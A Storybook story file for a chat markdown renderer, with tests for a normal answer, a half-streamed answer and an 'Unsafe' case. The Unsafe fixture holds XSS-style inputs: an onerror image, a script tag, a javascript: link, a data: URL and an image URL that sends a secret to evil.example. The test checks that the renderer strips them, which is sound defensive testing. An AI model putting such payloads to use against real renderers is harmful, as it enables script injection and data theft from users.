import type { Meta, StoryObj } from '@storybook/react-vite'
import { expect, within } from 'storybook/test'
import { ChatMarkdown } from './chat-markdown.tsx'
import { longAnswer } from './chat.fixtures.ts'

const meta: Meta<typeof ChatMarkdown> = {
  title: 'Screens/Ask Loona/Parts/Chat Markdown',
  component: ChatMarkdown,
  parameters: { layout: 'fullscreen', widths: [380] },
  args: { text: longAnswer, pageHref: (name) => (name === 'list' ? '/0/list' : null) },
}
export default meta
type Story = StoryObj<typeof meta>

export const Answer: Story = {
  play: async ({ canvasElement }) => {
    const answer = within(canvasElement)
    await expect(answer.getByRole('link', { name: 'Ads' })).toHaveAttribute('href', '/0/list')
    await expect(answer.getAllByRole('row')).toHaveLength(3)
  },
}

const unsafe = `<img src="https://evil.example/a.png" onerror="alert(1)"> <b>bold</b> <script>alert(1)</script>

![leak](https://evil.example/a.png?secret=1) [script](javascript:alert(1)) [data](data:text/html,x)

[plain](http://evil.example) [other page](page:nowhere) [relative](/api/logout) [mail](mailto:a@evil.example)

[safe](https://nightjar.example)

# Not a heading`

/** No HTML, no pictures, no headings, and no links but to own pages and secure addresses. */
export const Unsafe: Story = {
  args: { text: unsafe },
  play: async ({ canvasElement }) => {
    const answer = within(canvasElement)
    const links = answer.getAllByRole('link')
    await expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://nightjar.example'])
    await expect(links[0]).toHaveAttribute('rel', 'noopener noreferrer')
    await expect(canvasElement.querySelector('img, script, b, [onerror]')).toBeNull()
    await expect(answer.queryByRole('heading')).toBeNull()
  },
}

/** A text that ends in the middle of its marks, as while it's written. */
export const HalfWritten: Story = {
  args: { text: 'You set the **budg', isPart: true },
  play: async ({ canvasElement }) => {
    await expect(within(canvasElement).getByText('budg')).toBeVisible()
    await expect(within(canvasElement).queryByText(/\*/)).toBeNull()
  },
}
